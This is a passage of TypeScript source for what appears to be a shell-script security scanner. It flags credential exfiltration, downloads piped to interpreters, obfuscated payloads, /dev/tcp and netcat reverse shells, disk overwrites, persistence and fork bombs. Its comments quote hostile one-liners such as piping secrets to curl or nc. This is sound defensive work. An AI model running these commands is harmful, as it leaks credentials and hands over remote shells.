      // A key file named with `ssh -i`/`curl --key` authenticates; it is not sent.
      const header = (
        /^(?:ssh|scp|sftp|rsync)$/.test(cmd.name) ? SSH_AUTH_OPTION_RE : HTTP_AUTH_OPTION_RE
      ).test(/^--[\w-]+=/.test(a) ? a : (cmd.args[i - 1] ?? ''));
      return !header && secretVariableIn(a, texts) !== undefined;
    }) ??
    // `nc host 9000 <<< "$K"`: a here-string hands the variable over as the command's input.
    cmd.node.namedChildren.find(
      (c) => c?.type === 'herestring_redirect' && secretVariableIn(c.text, texts) !== undefined,
    )?.text;
  if (sent === undefined) return;
  facts.sourceLines.push(line);
  ctx.report('SS-EXFIL', {
    line,
    message: `\`${cmd.name}\` sends $${secretVariableIn(sent, texts)}, which holds a credential file or the environment`,
  });
}

/**
 * `pip install http://203.0.113.5/pkg.tar.gz`, `npm i http://…/x.tgz`, `pip install -i http://…`: installing
 * runs the package's build or install scripts, so the source decides what code runs. A public raw IP is
 * `critical`, plain http to a named host `high`, an https host that is not a known registry or forge `medium`.
 */
function checkPackageSource(ctx: FileContext, cmd: Command, line: number, resolved: string[]): void {
  const words = cmd.name.startsWith('python') ? resolved.slice(resolved.indexOf('-m') + 1) : resolved;
  if (cmd.name.startsWith('python') && !/^pip[0-9.]*$/.test(words[0] ?? '')) return;
  if (!words.some((w) => /^(?:install|i|add)$/.test(w))) return;
  const sources = words.filter(
    (w, i) =>
      /^(?:[\w@/.-]+@)?(?:git\+)?(?:https?|ftp):\/\//.test(w) ||
      (INDEX_OPTION_RE.test(words[i - 1] ?? '') && /:\/\//.test(w)) ||
      /^--(?:index-url|extra-index-url|find-links|registry|source)=/.test(w),
  );
  let worst: { severity: 'critical' | 'high' | 'medium'; url: string } | undefined;
  for (const source of sources) {
    const url = source.replace(/^--[\w-]+=|^[\w@/.-]+@(?=(?:git\+)?(?:https?|ftp):)/, '');
    const parts = /^(?:git\+)?(\w+):\/\/(?:[^@/\s]*@)?(\[[^\]]*\]|[^:/\s]+)/.exec(url);
    const scheme = parts?.[1] ?? '';
    const host = parts?.[2] ?? '';
    if (host === '' || LOOPBACK_HOST_RE.test(host) || KNOWN_PACKAGE_HOST_RE.test(host)) continue;
    const publicIp = /^\d+\.\d+\.\d+\.\d+$/.test(host) && !PRIVATE_HOST_RE.test(host);
    const severity = publicIp
      ? 'critical'
      : scheme !== 'https' && !PRIVATE_HOST_RE.test(host)
        ? 'high'
        : 'medium';
    const rank = { critical: 3, high: 2, medium: 1 };
    if (worst === undefined || rank[severity] > rank[worst.severity]) worst = { severity, url };
  }
  if (worst === undefined) return;
  ctx.report('SS-DOWNLOAD-EXEC', {
    line,
    severity: worst.severity,
    message:
      worst.severity === 'critical'
        ? `\`${cmd.name}\` installs from a raw IP address (${worst.url}); install scripts run with the user's rights`
        : `\`${cmd.name}\` installs from ${worst.url}, outside the usual registries; its install scripts run on install`,
  });
}

/** `curl -d "$(env)" …`: the dump is an argument of a network command. */
function insideNetworkCommand(node: Node): boolean {
  for (let n: Node | null = node.parent; n !== null; n = n.parent) {
    if (n.type === 'command' && NETWORK.test(commandOf(n).name)) return true;
  }
  return false;
}

function pipelineCommands(node: Node, texts?: ReadonlyMap<string, string>): Command[] {
  const commands: Command[] = [];
  for (const child of node.namedChildren) {
    if (child === null) continue;
    const inner = child.type === 'redirected_statement' ? child.childForFieldName('body') : child;
    if (inner?.type === 'command') commands.push(commandOf(inner, texts));
    // `cat f | sh -i 2>&1 | nc …` nests the first pipe inside a redirected statement.
    else if (inner?.type === 'pipeline') commands.push(...pipelineCommands(inner, texts));
  }
  return commands;
}

/** An interpreter that reads its program from stdin (no `-c`/`-e`/`-m`/script argument). */
function readsProgramFromStdin(cmd: Command): boolean {
  if (!INTERPRETERS.test(cmd.name)) return false;
  if (SHELLS.test(cmd.name)) return !cmd.args.includes('-c');
  return cmd.args.every((a) => a === '-' || a === '-u' || a === '-');
}

function checkPipeline(
  ctx: FileContext,
  facts: CodeFacts,
  node: Node,
  line: number,
  texts: ReadonlyMap<string, string>,
): void {
  const commands = pipelineCommands(node, texts);
  const sinkIndex = commands.findIndex((c, i) => i > 0 && readsProgramFromStdin(c));
  if (sinkIndex > 0) {
    const before = commands.slice(0, sinkIndex);
    if (before.some((c) => DOWNLOADERS.test(c.name))) {
      ctx.report('SS-DOWNLOAD-EXEC', {
        line,
        // `curl "$URL" | sh` is judged by the URL the variable holds.
        severity: installerSeverity(resolveShellWord(node.text, texts)),
        message: 'pipes downloaded content straight into an interpreter',
      });
    } else if (before.some((c) => isDecoder(c))) {
      ctx.report('SS-OBFUSCATION', {
        line,
        message: 'decodes an encoded payload and pipes it into an interpreter',
      });
    }
  }
  // A shell reading its program from a pipe that also holds netcat: the mkfifo reverse shell and kin.
  if (
    commands.some((c, i) => i > 0 && SHELLS.test(c.name) && readsProgramFromStdin(c)) &&
    commands.some((c) => /^(?:nc|ncat|netcat|telnet|socat|openssl)$/.test(c.name))
  ) {
    ctx.report('SS-REVERSE-SHELL', { line, message: 'pipes a network connection into a shell' });
  }
  // `echo "$AWS_SECRET_ACCESS_KEY" | curl -d @- …`: a secret variable fed to a network command.
  const secretEcho = commands.findIndex(
    (c) => MESSAGE_COMMANDS.test(c.name) && c.args.some((a) => SECRET_VARIABLE_RE.test(a)),
  );
  if (secretEcho !== -1 && commands.slice(secretEcho + 1).some((c) => NETWORK.test(c.name))) {
    ctx.report('SS-EXFIL', {
      line,
      severity: 'high',
      message: 'pipes a secret environment variable into a network command',
    });
  }
  // `echo "$K" | nc …` where K was read from a key file, `cat "$f" | curl -T - …` over `for f in ~/.ssh/*`.
  const sourceIndex = commands.findIndex(
    (c) =>
      isSecretSource(c) ||
      c.args.some(
        (a) =>
          SENSITIVE_PATH_RE.test(` ${a.replace(/^["']|["']$/g, '')}`) ||
          SENSITIVE_PATH_RE.test(` ${resolveShellWord(a, texts)}`) ||
          secretVariableIn(a, texts) !== undefined,
      ),
  );
  if (sourceIndex !== -1 && commands.slice(sourceIndex + 1).some((c) => NETWORK.test(c.name))) {
    facts.sourceLines.push(line);
    ctx.report('SS-EXFIL', { line, message: 'pipes credentials or the environment to a network command' });
  }
}

function isDecoder(cmd: Command): boolean {
  return (
    (cmd.name === 'base64' && cmd.args.some((a) => /^(?:-d|-D|--decode)$/.test(a))) ||
    (cmd.name === 'xxd' && cmd.args.includes('-r')) ||
    (cmd.name === 'openssl' && cmd.args.includes('-d')) ||
    // A reversed or rot13'd payload: `rev`, `tr 'A-Za-z' 'N-ZA-Mn-za-m'`.
    (cmd.name === 'rev' && cmd.args.length === 0) ||
    (cmd.name === 'tr' && /N-ZA-M|n-za-m/.test(cmd.args.join(' '))) ||
    // `printf '\x63\x75\x72\x6c …'`: the payload written as escape codes.
    ((cmd.name === 'printf' || (cmd.name === 'echo' && cmd.args.includes('-e'))) &&
      /(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})(?:[^\\]{0,2}(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3})){3}/.test(
        cmd.args.join(' '),
      ))
  );
}

function checkRedirect(
  ctx: FileContext,
  facts: CodeFacts,
  node: Node,
  line: number,
  expand: (text: string) => string,
  texts: ReadonlyMap<string, string>,
): void {
  const text = node.text;
  const payload = expand(text);
  for (const redirect of node.childrenForFieldName('redirect')) {
    if (redirect?.type !== 'file_redirect') continue;
    const raw = redirect.childForFieldName('destination')?.text ?? '';
    const destination = raw.replace(/^["']|["']$/g, '');
    // `base64 < ~/.ssh/id_ed25519`: the credential is read through the redirect, not named as an argument.
    if (/^\d*<(?!<|&)/.test(redirect.text)) {
      if (SENSITIVE_PATH_RE.test(` ${resolveShellWord(raw, texts)}`)) {
        ctx.report('SS-CRED-READ', { line, message: 'reads a credential file through an input redirect' });
        facts.sourceLines.push(line);
      }
      continue;
    }
    if (!/^\d*(?:>>?|&>>?|>\|)/.test(redirect.text)) continue;
    const resolvedDestination = resolveShellWord(raw, texts);
    if (
      (DISK_DEVICE_RE.test(resolvedDestination) && !resolvedDestination.startsWith('/dev/$')) ||
      runtimeDevice(resolvedDestination) !== resolvedDestination
    ) {
      ctx.report('SS-DESTRUCTIVE', { line, message: `overwrites the disk device ${resolvedDestination}` });
    }
    // `echo … >> "$rc"` inside `for rc in ~/.bashrc ~/.zshrc`: the variable names the startup file.
    const target = persistenceTarget(destination) ?? persistenceTarget(resolvedDestination);
    if (target === undefined) continue;
    ctx.report('SS-PERSISTENCE', {
      line,
      ...judgePersistence(target, payload, 'writes to'),
    });
  }
  if (/\/dev\/(?:tcp|udp)\//.test(text)) {
    const body = node.childForFieldName('body');
    const cmd = body?.type === 'command' ? commandOf(body, texts) : undefined;
    // `/dev/tcp/${H}/${P}` after `H=198.51.100.7`: the host the variable holds decides, not its name.
    const local = LOCAL_HOST_RE.test(resolveShellWord(text, texts));
    const remote = !local;
    if (
      remote &&
      cmd !== undefined &&
      (isSecretSource(cmd) ||
        cmd.args.some((a) => SENSITIVE_PATH_RE.test(` ${a.replace(/^["']|["']$/g, '')}`)))
    ) {
      ctx.report('SS-EXFIL', {
        line,
        message: 'writes credentials or the environment to a raw network socket',
      });
      return;
    }
    const interactive =
      (cmd !== undefined && (INTERPRETERS.test(cmd.name) || cmd.name === 'exec')) ||
      /[0-2]?>&\s*[0-9]|<&\s*[0-9]/.test(text);
    if (interactive && remote) {
      ctx.report('SS-REVERSE-SHELL', { line, message: 'connects a shell to a remote host over /dev/tcp' });
    } else {
      ctx.report('SS-SHELL-EXEC', {
        line,
        severity: local ? 'low' : 'medium',
        message: 'opens a raw network connection through /dev/tcp',
      });
    }
  }
  const body = node.childForFieldName('body');
  // `. /dev/stdin <<< "$(curl …)"` and `bash <<< "$(wget -qO- …)"`: a download handed over as the program.
  if (body?.type === 'command' && /<<<\s*["']?(?:\$\(|`)\s*(?:curl|wget|fetch)\b/.test(text)) {
    const cmd = commandOf(body);
    if (INTERPRETERS.test(cmd.name) || EVALUATORS.test(cmd.name)) {
      ctx.report('SS-DOWNLOAD-EXEC', {
        line,
        severity: installerSeverity(text),
        message: 'feeds a download to an interpreter through a here-string',
      });
    }
  }
  if (body?.type === 'command' && /<</.test(text)) {
    const cmd = commandOf(body);
    if (SHELLS.test(cmd.name) || cmd.name === 'eval') {
      for (const hit of matchShellText(text)) {
        ctx.report(hit.ruleId, {
          line,
          severity: hit.severity,
          message: `${hit.message} (in a here-document)`,
        });
      }
    }
  }
}

/** `for f in ~/.ssh/id_*; do …`: the loop reads every file it lists. */
function checkForLoop(ctx: FileContext, facts: CodeFacts, node: Node, line: number): void {
  const values = node.childrenForFieldName('value').map((v) => v?.text ?? '');
  if (!values.some((v) => SENSITIVE_PATH_RE.test(` ${v.replace(/^["']|["']$/g, '')}`))) return;
  ctx.report('SS-CRED-READ', { line, message: 'loops over credential files of the user running the agent' });
  facts.sourceLines.push(line);
}

function checkFunction(ctx: FileContext, node: Node, line: number): void {
  const name = node.childForFieldName('name')?.text;
  const body = node.childForFieldName('body')?.text;
  if (name === undefined || body === undefined) return;
  const n = name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  if (new RegExp(`(?:^|[\\s{;])${n}\\s*\\|\\s*${n}\\s*&`).test(body)) {
    ctx.report('SS-FORK-BOMB', {
      line,
      message: `function ${name} pipes into itself in the background (fork bomb)`,
    });
    return;
  }
  // `b() { b & b & }`: two background calls of itself double the processes at every level.
  const background = body.match(new RegExp(`(?:^|[\\s{;&(])${n}(?:\\s+"?\\$[@*]"?)?\\s*&(?!&)`, 'g')) ?? [];
  if (background.length >= 2) {
    ctx.report('SS-FORK-BOMB', {
      line,
      message: `function ${name} calls itself twice in the background (fork bomb)`,
    });
  }
}
